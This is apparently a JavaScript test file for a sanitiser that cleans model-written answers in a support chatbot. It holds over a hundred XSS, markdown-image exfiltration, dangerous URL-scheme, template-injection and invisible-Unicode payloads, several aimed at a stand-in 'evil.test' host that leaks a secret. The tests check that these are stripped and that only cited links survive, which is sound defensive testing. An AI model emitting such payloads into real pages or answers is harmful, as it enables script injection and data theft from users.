import { fitText } from './fit-text.js';
import { plainText } from './plain-text.js';
import { readAnswer } from './read-answer.js';
import { supportedSentences } from './support-check.js';
import { growth, steep } from '../../../test/support/growth.js';

const evil = 'https://evil.test/c?d=secret';
const payloads = [
  `<img src="${evil}">`,
  `<img src=x onerror=alert(1)>`,
  `<script>fetch('${evil}')</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<svg/onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="${evil}">click</a>`,
  `<body onload=alert(1)>`,
  `<style>@import '${evil}';</style>`,
  `<link rel=stylesheet href=${evil}>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href="${evil}">`,
  `<form action="${evil}"><input name=p></form>`,
  `<video><source onerror=alert(1)></video>`,
  `<details open ontoggle=alert(1)>`,
  `<math><mtext><img src=x onerror=alert(1)>`,
  `<object data="${evil}"></object>`,
  `<embed src="${evil}">`,
  `<<script>script>alert(1)<</script>/script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)//`,
  `<img """><script>alert(1)</script>">`,
  `<!--<img src="--><img src=x onerror=alert(1)>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;img src=x onerror=alert(1)&#62;`,
  `&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;`,
  `&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
  `&LT;img src=x&GT;`,
  `![x](${evil})`,
  `![](${evil} "t")`,
  `![x][1]\n\n[1]: ${evil}`,
  `[click](${evil})`,
  `[click](javascript:alert(1))`,
  `[click](<${evil}>)`,
  `[click][1]\n[1]: ${evil}`,
  `<${evil}>`,
  `[![x](${evil})](${evil})`,
  `[c](data:text/html;base64,PHN)`,
  evil,
  `www.evil.test/x`,
  `evil.test/${'a'.repeat(40)}`,
  `http://evil.test`,
  `HTTPS://EVIL.TEST/`,
  `//evil.test/x`,
  `ftp://evil.test/x`,
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  `java\u0000script:alert(1)`,
  `java\tscript:alert(1)`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `file:///etc/passwd`,
  `blob:https://evil.test/1`,
  `view-source:https://evil.test`,
  `intent://x#Intent;end`,
  `mail evil@evil.test`,
  `<mailto:evil@evil.test>`,
  `smb://evil.test/share`,
  `\u202Egnp.exe`,
  `\u2066hidden\u2069`,
  `a\u200Bb`,
  `\uFEFFx`,
  `\u0007bell`,
  `\u001B[31mred`,
  `\u0000nul`,
  `\uE000private`,
  `\u{E0041}\u{E0042}tags`,
  `\u2028line`,
  `**bold** <b>x</b>`,
  '```html\n<script>1</script>\n```',
  `# <h1>Title</h1>`,
  `> <blockquote>`,
  `__u__`,
  '`code`',
  `~~x~~`,
  `| a | b |\n|---|---|\n| <img src=x> |`,
  `- <img src=x>`,
  `1. [x](${evil})`,
  `{{7*7}}`,
  '$' + '{7*7}',
  `<%= 7*7 %>`,
  `#{7*7}`,
  `{% include "x" %}`,
  `=HYPERLINK("${evil}")`,
  `@everyone`,
  `/pay 100`,
  `\\u003cscript\\u003e`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `<a\nhref="${evil}">x</a>`,
  `<A HREF=${evil}>x`,
  `<img src="x" srcset="${evil} 1x">`,
  `<div style="background:url(${evil})">`,
  `<table background="${evil}">`,
  `<input onfocus=alert(1) autofocus>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<template><script>alert(1)</script></template>`,
  `<xss onclick=alert(1)>`,
  `<!DOCTYPE html>`,
  `<?xml version="1.0"?>`,
  `<![CDATA[<script>alert(1)</script>]]>`,
];

const passage = {
  title: 'Help',
  heading: null,
  question: null,
  text: 'Returns are accepted within 30 days. See https://shop.test/returns for the form.',
};
const known = { customerWords: '' };

describe('what a model writes is hostile text', () => {
  it('has at least a hundred payloads', () => expect(payloads.length).toBeGreaterThanOrEqual(100));

  it.each(payloads)('plain text of %j holds no markup', (payload) => {
    const text = plainText(`Hello ${payload} there`);
    expect(text).not.toMatch(/[<]|!\[|\]\(|javascript\s*:|vbscript\s*:|data\s*:|file\s*:|onerror=[^)]*>/i);
    expect(text).not.toMatch(/(?![\n\t\u200c\u200d])[\p{Cc}\p{Cf}\p{Co}\p{Cs}]/u);
    expect(plainText(text)).toBe(text);
  });

  it.each(payloads)('nothing of %j is proposed', (payload) => {
    const kept = supportedSentences(
      plainText(`Returns are accepted within 30 days. ${payload}\n${payload}. Click ${payload} now.`),
      [passage],
      known,
    ).join(' ');
    expect(kept).not.toMatch(/evil|alert|passwd|onerror|script|hidden|<|secret|HYPERLINK|7\*7/i);
    expect(kept.replace('Returns are accepted within 30 days.', '').trim().length).toBeLessThan(12);
  });

  it('keeps a link that stands in a cited passage, and only that one', () => {
    const link = 'See https://shop.test/returns for the form.';
    expect(supportedSentences(plainText(link), [passage], known)).toEqual([link]);
    for (const other of [
      'https://shop.test/returns?leak=1',
      'https://shop.test/returns/../x',
      'https://shop.test.evil.test/returns',
      'http://shop.test/returns',
      'https://user@shop.test/returns',
    ]) {
      expect(supportedSentences(plainText(`See ${other} for the form.`), [passage], known)).toEqual([]);
    }
  });

  it.each(['<', '<a', '[', '![[', '&lt;', '<!--', '*', '<script>', '`a', '[a]('])(
    'goes through a wall of %j once',
    (part) => {
      expect(growth((scale) => plainText(part.repeat(scale * 5_000)))).toBeLessThan(steep);
    },
  );
});

describe('readAnswer', () => {
  it.each([
    [
      '{"answer":"Yes.","sources":[1,2],"confidence":0.8}',
      { kind: 'answer', text: 'Yes.', sources: [1, 2], confidence: 0.8 },
    ],
    [
      '```json\n{"answer":"Yes. [1]","sources":["1","[2]",1],"confidence":7}\n```',
      { kind: 'answer', text: 'Yes.', sources: [1, 2], confidence: null },
    ],
    [
      'Sure! {"reply":"Yes.","sources":[3]} Anything else?',
      { kind: 'answer', text: 'Yes.', sources: [3], confidence: null },
    ],
    ['Yes, within 30 days [2].', { kind: 'answer', text: 'Yes, within 30 days.', sources: [2], confidence: null }],
    ['{"answer":"NOTHING_GROUNDED","sources":[]}', { kind: 'nothing' }],
    ['NOTHING_GROUNDED', { kind: 'nothing' }],
    ['{"answer": "…\u0000 ]] <|endoftext|> {{undefined}}, NaN', { kind: 'unreadable' }],
    ['{"answer": 7}', { kind: 'unreadable' }],
    ['   ', { kind: 'unreadable' }],
  ])('reads %j', (content, answer) => expect(readAnswer(content)).toEqual(answer));

  it('takes no names of objects for its own', () => {
    expect(readAnswer('{"__proto__":{"answer":"x"},"constructor":{}}')).toEqual({ kind: 'unreadable' });
  });
});

describe('fitText', () => {
  it('drops sentences that do not fit, and cuts a first one at a word', () => {
    expect(fitText(['One two.', 'Three four.'], { maxTextLength: 10, textUnit: 'characters' })).toBe('One two.');
    expect(fitText(['İıİıİı ğğğğğ şşş.'], { maxTextLength: 14, textUnit: 'bytes' })).toBe('İıİıİı');
    expect(fitText(['😀😀😀'], { maxTextLength: 2, textUnit: 'characters' })).toBe('😀😀');
    expect(fitText([], { maxTextLength: 2, textUnit: 'characters' })).toBe('');
  });
});
